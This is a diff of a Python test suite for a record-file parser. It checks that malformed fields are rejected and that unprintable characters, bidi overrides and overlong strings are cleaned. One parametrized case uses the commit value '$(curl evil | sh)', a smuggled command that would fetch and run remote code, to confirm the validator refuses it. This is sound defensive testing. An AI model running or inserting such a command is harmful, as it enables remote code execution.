@@ -77,8 +77,6 @@ def test_what_a_line_need_not_say_is_nothing_by_default() -> None:
         (json.dumps(START | {"timing": {"long_seconds": math.inf}}), "timing.long_seconds: Input should be a finite"),
         (json.dumps(START | {"start_seconds": 1e9}), "start_seconds: Input should be less"),
         (json.dumps(START | {"commit": "$(curl evil | sh)"}), "commit: String should match pattern"),
-        (json.dumps(START | {"versions": {"\u202e": "1"}}), "versions.*holds what cannot be printed"),
-        (json.dumps(START | {"versions": {"torch": "\u3164"}}), "versions.torch: .*holds what cannot be printed"),
         (json.dumps(START | {"ceilings": {"flops_per_second": 0}}), "ceilings.flops_per_second: Input should be great"),
         (json.dumps(START | {"smoke": True}), "is a smoke record among real ones"),
         (json.dumps(START | {"profile": START["profile"] | {"name": "gpu"}}),
@@ -89,6 +87,19 @@ def test_what_a_line_need_not_say_is_nothing_by_default() -> None:
 def test_what_no_record_says_is_refused_with_the_reason(text: str, why: str) -> None:
     with pytest.raises(UserError, match=f"^here(:1)?: {why}"):
         parse_file(PLACE, f"{text}\n".encode(), False, "here")
+
+
+def test_a_text_of_a_record_is_one_line_of_what_can_be_printed() -> None:
+    hostile = START | {"versions": {"torch": "1\u202e" + " " * 90 + "Commit  good\u3164", "long": "x" * 9000}}
+    record, _ = parse_file(PLACE, f"{json.dumps(hostile)}\n".encode(), False, "here")
+    assert record.start.versions == {"torch": "1 Commit good", "long": "x" * 499 + "…"}
+
+
+def test_a_reason_with_half_a_letter_is_written_and_read() -> None:
+    """As of a file whose name is in another encoding."""
+    made = make_lines(status="failed", reason="no file a\udcffb", number=1)[1]
+    assert append_line(PLACE, Result, made).reason == "no file a?b"
+    assert json.loads(PLACE.read_text("utf-8"))["reason"] == "no file a?b"
 
 
 @pytest.mark.parametrize(
